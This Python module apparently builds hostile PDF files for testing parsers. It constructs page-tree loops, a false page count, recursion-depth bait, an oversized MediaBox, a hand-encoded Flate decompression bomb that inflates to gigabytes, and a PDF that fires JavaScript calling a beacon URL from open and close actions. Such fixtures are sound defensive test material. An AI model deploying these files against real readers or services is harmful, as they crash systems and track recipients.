"""Hostile files, built byte by byte: loops, lies, bombs and scripts inside PDFs.

Nothing here is read from the internet; each builder returns the bytes of one file.
"""

from __future__ import annotations

import zlib


def assemble(objects: list[bytes], *, root: int = 1) -> bytes:
    """A well-formed PDF (header, objects, xref, trailer) around the given object bodies."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        xref,
    )
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _text(lines: list[str]) -> bytes:
    ops = [b"BT /F1 12 Tf 72 720 Td 14 TL"]
    for line in lines:
        safe = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(b"(" + safe.encode("latin-1") + b") '")
    ops.append(b"ET")
    return b"\n".join(ops)


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def text_pdf(lines: list[str], *, catalog_extra: bytes = b"", page_extra: bytes = b"") -> bytes:
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page_extra + b" >>",
            _stream(_text(lines)),
            FONT,
        ]
    )


def looping_page_tree() -> bytes:
    """The page tree's Kids point back at itself (and at a sibling that points back)."""
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1 >>",
        ]
    )


def lying_page_count(count: int = 2_000_000_000) -> bytes:
    """One real page; the tree claims two billion."""
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(_text(["One page, whatever the count says."])),
            FONT,
        ]
    )


def deep_page_tree(depth: int = 5000) -> bytes:
    """Pages nodes nested thousands deep above a single page (recursion bait)."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for i in range(depth):
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (3 + i))
    objects.append(b"<< /Type /Page /MediaBox [0 0 612 792] >>")
    return assemble(objects)


def huge_mediabox() -> bytes:
    """A page declaring a 14,400 x 14,400 inch MediaBox and no text (OCR render bait)."""
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 1036800 1036800] >>",
        ]
    )


def _fixed_huffman_run(total: int) -> tuple[bytes, int]:
    """Raw deflate of `total` spaces: one literal, then <length 258, distance 1> repeats.

    Fixed Huffman: the literal is 8 bits, each repeat 13 bits (length code 285 + distance
    code 0), so eight repeats are exactly 13 bytes and the body is one pattern repeated.
    """
    bits: list[int] = []

    def field(value: int, n: int) -> None:  # header fields: least significant bit first
        bits.extend((value >> i) & 1 for i in range(n))

    def code(value: int, n: int) -> None:  # Huffman codes: most significant bit first
        bits.extend((value >> (n - 1 - i)) & 1 for i in range(n))

    def pack(bs: list[int]) -> bytes:
        return bytes(sum(b << i for i, b in enumerate(bs[j : j + 8])) for j in range(0, len(bs), 8))

    repeats = (total - 1) // 258
    field(1, 1)  # final block
    field(1, 2)  # fixed Huffman
    code(0x30 + 0x20, 8)  # literal ' '
    code(0b11000101, 8)  # length 258
    code(0, 5)  # distance 1  -> 24 bits so far: byte aligned
    head = pack(bits)
    bits.clear()
    for _ in range(8):
        code(0b11000101, 8)
        code(0, 5)
    unit = pack(bits)  # 13 bytes = 8 repeats
    bits.clear()
    body_repeats = (repeats - 1) // 8
    left = repeats - 1 - body_repeats * 8
    for _ in range(left):
        code(0b11000101, 8)
        code(0, 5)
    code(0, 7)  # end of block
    tail = pack(bits)
    return head + unit * body_repeats + tail, 1 + 258 * repeats


def flate_bomb(inflated: int = 3 * 1024**3) -> bytes:
    """A page whose content stream is ~19 MB of Flate that inflates to `inflated` bytes."""
    raw, size = _fixed_huffman_run(inflated)
    adler = 1
    block = b" " * (64 << 20)
    left = size
    while left:
        n = min(left, len(block))
        adler = zlib.adler32(block[:n] if n < len(block) else block, adler)
        left -= n
    data = b"\x78\x01" + raw + adler.to_bytes(4, "big")
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(data, b"/Filter /FlateDecode"),
            FONT,
        ]
    )


def javascript_pdf(beacon_url: str) -> bytes:
    """Text plus JavaScript in every place a viewer might run it, each calling `beacon_url`."""
    js = f"app.launchURL('{beacon_url}', true); this.submitForm('{beacon_url}');"
    action = b"<< /S /JavaScript /JS (" + js.encode() + b") >>"
    uri = b"<< /S /URI /URI (" + beacon_url.encode() + b") >>"
    return text_pdf(
        ["Department of the Treasury", "This file carries JavaScript.", "Amount due: $1.00"],
        catalog_extra=b"/OpenAction "
        + action
        + b" /AA << /WC "
        + action
        + b" >> /Names << /JavaScript << /Names [(x) "
        + action
        + b"] >> >>",
        page_extra=b"/AA << /O " + action + b" /C " + uri + b" >>",
    )
